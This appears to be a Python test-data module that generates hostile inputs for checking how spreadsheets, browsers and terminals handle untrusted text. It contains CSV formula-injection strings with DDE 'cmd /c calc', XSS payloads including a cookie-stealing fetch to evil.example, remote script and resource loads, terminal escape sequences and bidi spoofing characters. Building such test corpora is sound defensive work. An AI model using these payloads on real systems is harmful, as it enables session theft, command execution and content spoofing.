"""What a stranger writes to be run: by a spreadsheet, by a browser, by a terminal."""

from __future__ import annotations

_CALLS = (
    "1+1", "SUM(1,2)", "HYPERLINK(\"https://evil.example/?\"&A1,\"look\")", "cmd|'/c calc'!A0", "WEBSERVICE(\"https://evil.example\")",
    "IMPORTXML(\"https://evil.example\",\"//a\")", "2*3", "A1", "DDE(\"cmd\";\"/c calc\";\"x\")", "INDIRECT(\"A1\")", "RAND()", "NOW()",
    "MSEXCEL|'\\..\\..\\x.exe'!''",
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\ufeff=", "\u200b=", "\"=", "'=", "=-", "@=", "++")  # fmt: skip


def formulas() -> list[str]:
    """Cells that a spreadsheet might run."""
    found = [start + call for call in _CALLS for start in _STARTS]
    behind = [
        f"We pay well{mark}={call}"
        for call in _CALLS[:4]
        for mark in (";", "\t", "|", "\n", "\r", "\r\n", ";;", '";', ",")
    ]
    return found + behind


_SCRIPTS = (
    "window.__run=(window.__run||0)+1", "alert(1)", "fetch('https://evil.example/?'+document.cookie)", "new Image().src='//evil.example/i'",
    "location='https://evil.example'", "import('https://evil.example/x.js')",
)  # fmt: skip
_HOLDERS = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><script>{}</script></svg>",
    "<body onload=\"{}\">", "<iframe srcdoc=\"<script>{}</script>\">", "<a href=\"javascript:{}\">see</a>", "\"><img src=x onerror={}>",
    "'><svg/onload={}>", "<details open ontoggle=\"{}\">", "<math><mtext></p><style><img src=x onerror={}>", "<video><source onerror=\"{}\">",
    "<input autofocus onfocus=\"{}\">", "<marquee onstart=\"{}\">", "<select onchange=\"{}\"><option>1", "<!--><script>{}</script-->",
    "]]><script>{}</script>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>",
    "<form action=\"javascript:{}\"><button>go", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "`${{{}}}`", "{{{{{}}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "<scr\0ipt>{}</script>", "<\u202escript>{}</script>", "＜script＞{}＜/script＞", "<script\u2028>{}</script>", "<ScRiPt >{}</sCrIpT >",
    "<style>@keyframes x{{}}</style><xss style=\"animation-name:x\" onanimationstart=\"{}\">", "javascript:/*--></title></style></textarea>"
    "</script></xmp><svg/onload='{}'>", "<template><script>{}</script></template>",
)  # fmt: skip
_ASKING = (
    "<img src=\"https://evil.example/{}\">", "<link rel=stylesheet href=\"https://evil.example/{}.css\">", "<style>@import 'https://evil.example/{}';</style>",
    "<style>body{{background:url(https://evil.example/{})}}</style>", "<p style=\"background:url(//evil.example/{})\">", "<meta http-equiv=refresh"
    " content=\"0;url=https://evil.example/{}\">", "<base href=\"https://evil.example/{}/\">", "<iframe src=\"https://evil.example/{}\"></iframe>",
    "<svg><image href=\"https://evil.example/{}\"/></svg>", "<svg><use href=\"https://evil.example/{}#x\"/></svg>", "<video poster=\"https://evil.example/{}\">",
    "<audio src=\"https://evil.example/{}\" autoplay>", "<object data=\"https://evil.example/{}\"></object>", "<link rel=prefetch href=\"//evil.example/{}\">",
    "<link rel=dns-prefetch href=\"//evil{}.example\">", "![x](https://evil.example/{})", "<table background=\"https://evil.example/{}\">",
    "<body background=\"https://evil.example/{}\">", "<svg><filter><feImage href=\"https://evil.example/{}\"/></filter></svg>", "https://evil.example/{}",
    "<img srcset=\"https://evil.example/{} 1x\">", "<script src=\"https://evil.example/{}.js\"></script>",
)  # fmt: skip
_TURNED = ("\u202e", "\u2066", "\u2067", "\u2068", "\u202d", "\u200f", "\u061c")


def markup() -> list[str]:
    """Text that a browser might run, or ask for something by, or show the wrong way round."""
    found = [holder.format(script) for script in _SCRIPTS for holder in _HOLDERS]
    found += [asking.format(f"x{number}") for number in range(3) for asking in _ASKING]
    return found + [
        f"{turn}{text}{turn}"
        for turn in _TURNED
        for text in ("gnp.exe", "<script>alert(1)</script>", "moc.elpmaxe")
    ]


_ESCAPES = (
    "[31mred", "[2J", "[H", "[1A", "[8m", "[?25l", "[?1049h", "[6n", "[5n", "[c", "]0;owned\x07", "]0;owned\x1b\\", "]8;;https://evil.example\x07see\x1b]8;;\x07",
    "]52;c;ZXZpbA==\x07", "]50;font\x07", "P+q544e\x1b\\", "_evil\x1b\\", "^evil\x1b\\", "Xevil\x1b\\", "c", "(0", "#8", "[3;J", "[20l", "[>c", "7", "8", "D", "M", "E",
)  # fmt: skip
_SINGLE = (
    *(chr(n) for n in range(32) if n not in (10,)), "\x7f", *(chr(n) for n in range(0x80, 0xA0)), "\u061c", "\u200e", "\u200f", "\u202a", "\u202b",
    "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u2028", "\u2029", "\ufff9", "\U000e0041",
)  # fmt: skip


def terminal() -> list[str]:
    """Text that a terminal might act on."""
    found = [f"\x1b{escape}" for escape in _ESCAPES] + [
        f"\x9b{escape[1:]}" for escape in _ESCAPES if escape.startswith("[")
    ]
    return found + [f"a{char}b" for char in _SINGLE]
